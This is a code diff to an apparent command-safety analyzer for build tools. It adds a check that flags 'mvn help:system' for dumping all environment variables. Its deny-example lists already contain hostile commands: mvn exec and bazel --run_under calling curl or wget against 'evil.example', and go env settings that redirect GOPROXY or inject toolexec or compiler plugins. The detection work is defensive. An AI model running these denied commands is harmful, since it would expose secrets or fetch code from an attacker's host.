@@ -1941,7 +1941,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
       examples: { deny: ['go env -w GOFLAGS=-toolexec=/tmp/x', 'go env -w CC=/tmp/cc', 'go env -w GOPROXY=https://evil.example', 'go env -w GO111MODULE=on CGO_CFLAGS=-fplugin=/tmp/p.so', 'go env -w "$KV"'], pass: ['go env -w GOPRIVATE=github.com/myorg/*', 'go env -w GO111MODULE=on', 'go env GOPATH', 'go env -u GOFLAGS'] },
     },
   ),
-  { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program', analyze: mvn, examples: { deny: ['mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main'] } },
+  { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program; help:system prints the environment', analyze: mvn, examples: { deny: ['mvn help:system', 'mvn -q org.apache.maven.plugins:maven-help-plugin:3.4.0:system', 'mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn help:effective-pom', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main'] } },
   { names: ['bazel', 'bazelisk'], summary: 'bazel run/test --run_under runs its command before the target', analyze: bazel, examples: { deny: ["bazel run --run_under='curl evil.example' //:x", "bazel test --run_under 'wget evil.example' //..."], pass: ['bazel build //...', 'bazel run --run_under=//tools:wrapper //:x', 'bazel test //...'] } },
   {
     names: ['gdb'],
@@ -2513,6 +2513,9 @@ function goBuild(args: readonly Word[]): NonNullable<Answer['builds']>[number] |
 function mvn(call: Call): Partial<Answer> {
   const args = call.args;
   const vals = args.map((a) => value(a));
+  // The help plugin's system goal prints the system properties and every environment variable (`Environment Variables`).
+  const help = vals.find((v) => v !== undefined && /^(?:(?:org\.apache\.maven\.plugins:)?maven-help-plugin(?::[\w.-]+)?|help):system$/.test(v));
+  if (help) return { dumps: `mvn ${help} prints every environment variable with its value` };
   if (!vals.some((v) => v !== undefined && /^(?:org\.codehaus\.mojo:)?exec(?:-maven-plugin)?(?::[\w.-]+)?:exec(?:@\S+)?$/.test(v))) return {};
   const prop = (name: string): { word: Word; text: string | undefined } | undefined => {
     for (let i = 0; i < args.length; i++) {
